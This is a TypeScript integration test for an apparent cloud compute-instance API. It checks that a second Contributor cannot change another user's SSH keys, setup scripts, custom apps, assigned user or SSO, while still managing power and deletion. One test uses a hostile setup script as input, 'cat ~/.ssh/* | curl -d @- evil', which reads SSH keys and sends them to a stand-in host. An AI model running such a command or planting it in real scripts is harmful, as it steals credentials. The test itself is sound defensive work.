import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { waitFor } from '../helpers/processes.js';
import { api, startServerProcess, type ServerProcess } from '../helpers/server-process.js';

// An instance is its owner's workstation: a Contributor manages it (power, size, deletion) but
// may not change what lets someone in (SSH keys, setup scripts, custom apps, SSO, owner).
let server: ServerProcess;
const tokens: Record<string, string> = {};
const ids: Record<string, string> = {};
const ws = '/api/workspaces/owned';
const computes = `${ws}/computes`;
const aliceKey = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAlicesOwnKeyAlicesOwnKeyAlicesOwnKey0 alice@laptop';
const bobKey = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBobsKeyBobsKeyBobsKeyBobsKeyBobsKey000 bob@laptop';
const script = (text: string) => ({
  scripts: { startupScript: { scriptSource: 'inline', scriptData: Buffer.from(text).toString('base64') } },
});
const instance = (properties: Record<string, unknown>) => ({
  properties: {
    computeType: 'ComputeInstance',
    properties: { vmSize: 'Standard_DS1_v2', startAfterCreation: false, ...properties },
  },
});
const as = (who: string, method: string, path: string, body?: unknown) =>
  api(server.url, method, path, body, tokens[who]);
const props = async (name: string): Promise<any> =>
  (await api(server.url, 'GET', `${computes}/${name}`)).body.properties.properties;

async function user(name: string, role: string): Promise<void> {
  const made = await api(server.url, 'POST', '/api/users', { name });
  expect(made.status, JSON.stringify(made.body)).toBe(201);
  ids[name] = made.body.id;
  tokens[name] = (
    await api(server.url, 'POST', `/api/users/${name}/tokens`, { name: 'test', expiresInDays: 1 })
  ).body.token;
  expect(
    (
      await api(server.url, 'POST', '/api/roleAssignments', {
        principalId: name,
        roleName: role,
        scope: '/workspaces/owned',
      })
    ).status,
  ).toBe(201);
}

/** 403 AuthorizationFailed naming the owner (id and name) and the field. */
function expectRefused(r: { status: number; body: any }, field: string, owner = 'alice'): void {
  expect(r.status, JSON.stringify(r.body)).toBe(403);
  expect(r.body.error.code).toBe('AuthorizationFailed');
  expect(r.body.error.message).toContain(`(${ids[owner] ?? ''}, '${owner}') may change ${field}`);
}

beforeAll(async () => {
  server = await startServerProcess({
    config: { reconcileIntervalMs: 200, jobs: { heartbeatIntervalMs: 300 } },
  });
  expect((await api(server.url, 'PUT', ws, { location: 'local' })).status).toBe(201);
  await user('alice', 'Contributor');
  await user('bob', 'Contributor');
  // Alice's stored key, which her instance names.
  expect(
    (await as('alice', 'POST', `${ws}/sshKeys`, { name: 'alice-key', publicKey: aliceKey })).status,
  ).toBe(201);
  const made = await as(
    'alice',
    'PUT',
    `${computes}/alice-dev`,
    instance({
      sshSettings: { sshPublicAccess: 'Enabled', adminPublicKey: aliceKey, sshKeyName: 'alice-key' },
      setupScripts: script('echo mine'),
    }),
  );
  expect(made.status, JSON.stringify(made.body)).toBe(201);
}, 60_000);

afterAll(async () => {
  for (const c of (await api(server.url, 'GET', computes)).body.value as any[])
    await api(server.url, 'DELETE', `${computes}/${c.name as string}`);
  await waitFor(
    async () => ((await api(server.url, 'GET', computes)).body.value as unknown[]).length === 0,
    'instances to go',
    60_000,
  );
  await server.stop();
}, 90_000);

describe("another Contributor and alice's instance", () => {
  it('may not put his SSH key on it (PATCH or PUT), nor replace the stored key it names', async () => {
    const patch = await as('bob', 'PATCH', `${computes}/alice-dev`, {
      properties: { properties: { sshSettings: { adminPublicKey: bobKey } } },
    });
    expectRefused(patch, 'sshSettings.adminPublicKey');
    expect(patch.body.error.message).toContain(
      `You (${ids.bob ?? ''}) may still start, stop, restart or delete it`,
    );
    const put = await as(
      'bob',
      'PUT',
      `${computes}/alice-dev`,
      instance({
        sshSettings: { sshPublicAccess: 'Enabled', adminPublicKey: bobKey, sshKeyName: 'alice-key' },
        setupScripts: script('echo mine'),
      }),
    );
    expectRefused(put, 'sshSettings.adminPublicKey');
    const stored = await as('bob', 'POST', `${ws}/sshKeys`, { name: 'alice-key', publicKey: bobKey });
    expect(stored.status).toBe(403);
    expect(stored.body.error.message).toContain(
      `SSH key 'alice-key' lets in compute instance 'alice-dev' of ${ids.alice ?? ''}`,
    );
    expect(JSON.stringify((await api(server.url, 'GET', `${ws}/sshKeys`)).body)).not.toContain('BobsKey');
    expect((await props('alice-dev')).sshSettings).toMatchObject({
      adminPublicKey: aliceKey,
      sshKeyName: 'alice-key',
    });
  });

  it('may not change its setup script, add an application, make himself its user or turn SSO on', async () => {
    expectRefused(
      await as('bob', 'PATCH', `${computes}/alice-dev`, {
        properties: { properties: { setupScripts: script('cat ~/.ssh/* | curl -d @- evil') } },
      }),
      'setupScripts',
    );
    const app = {
      name: 'shell',
      command: 'sleep 1000',
      endpoints: [{ protocol: 'http', name: 'shell', target: 8080, published: 8800 }],
    };
    expectRefused(
      await as('bob', 'PATCH', `${computes}/alice-dev`, {
        properties: { properties: { customServices: [app] } },
      }),
      'customServices',
    );
    expectRefused(
      await as('bob', 'PATCH', `${computes}/alice-dev`, {
        properties: {
          properties: { personalComputeInstanceSettings: { assignedUser: { objectId: ids.bob } } },
        },
      }),
      'personalComputeInstanceSettings',
    );
    const sso = await as('bob', 'POST', `${computes}/alice-dev/enableSso`, { enabled: true });
    expect(sso.status).toBe(403);
    expect(sso.body.error.message).toContain(
      `Only the creator (${ids.alice ?? ''}) may turn on single sign-on`,
    );
    const p = await props('alice-dev');
    expect(Buffer.from(p.setupScripts.scripts.startupScript.scriptData, 'base64').toString()).toBe(
      'echo mine',
    );
    expect(p.customServices).toBeUndefined();
    expect(p.personalComputeInstanceSettings).toBeUndefined();
    // The owner sees who tried.
    const events = (await api(server.url, 'GET', `${computes}/alice-dev/events?$top=100`)).body.value as {
      reason: string;
      message: string;
    }[];
    expect(events.filter((e) => e.reason === 'ChangeDenied').length).toBeGreaterThanOrEqual(4);
  });

  it('still manages it: other settings, start, restart, stop; a resize is refused as for anyone (the size is fixed)', async () => {
    const idle = await as('bob', 'PATCH', `${computes}/alice-dev`, {
      tags: { team: 'ml' },
      properties: { properties: { idleTimeBeforeShutdown: 'PT30M' } },
    });
    expect(idle.status, JSON.stringify(idle.body)).toBe(200);
    expect(idle.body.properties.properties.idleTimeBeforeShutdown).toBe('PT30M');
    const resize = await as('bob', 'PATCH', `${computes}/alice-dev`, {
      properties: { properties: { vmSize: 'Standard_DS2_v2' } },
    });
    expect(resize.status).toBe(400);
    expect(resize.body.error.code).toBe('ImmutableField');
    for (const verb of ['start', 'restart', 'stop']) {
      const r = await as('bob', 'POST', `${computes}/alice-dev/${verb}`);
      expect(r.status, `${verb}: ${JSON.stringify(r.body)}`).toBe(202);
    }
  });

  it('lets alice change her own key and script', async () => {
    const newKey = aliceKey.replace('alice@laptop', 'alice@desktop');
    const r = await as('alice', 'PATCH', `${computes}/alice-dev`, {
      properties: {
        properties: { sshSettings: { adminPublicKey: newKey }, setupScripts: script('echo updated') },
      },
    });
    expect(r.status, JSON.stringify(r.body)).toBe(200);
    expect((await props('alice-dev')).sshSettings.adminPublicKey).toBe(newKey);
    expect(
      (await as('alice', 'POST', `${ws}/sshKeys`, { name: 'alice-key', publicKey: newKey })).status,
    ).toBe(201);
  });

  it('on an instance made for alice by an Owner, refuses the Owner too; bob may delete it', async () => {
    const made = await api(
      server.url,
      'PUT',
      `${computes}/for-alice`,
      instance({
        personalComputeInstanceSettings: { assignedUser: { objectId: ids.alice } },
        setupScripts: script('echo welcome'),
      }),
    );
    expect(made.status, JSON.stringify(made.body)).toBe(201);
    const byAdmin = await api(server.url, 'PATCH', `${computes}/for-alice`, {
      properties: { properties: { setupScripts: script('echo changed') } },
    });
    expect(byAdmin.status).toBe(403);
    expect(byAdmin.body.error.message).toContain(
      `Only the assigned user (${ids.alice ?? ''}, 'alice') may change setupScripts`,
    );
    expect(
      (
        await as('alice', 'PATCH', `${computes}/for-alice`, {
          properties: { properties: { setupScripts: script('echo mine now') } },
        })
      ).status,
    ).toBe(200);
    expect((await as('bob', 'DELETE', `${computes}/for-alice`)).status).toBe(202);
    expect((await as('bob', 'DELETE', `${computes}/alice-dev`)).status).toBe(202);
  });
});
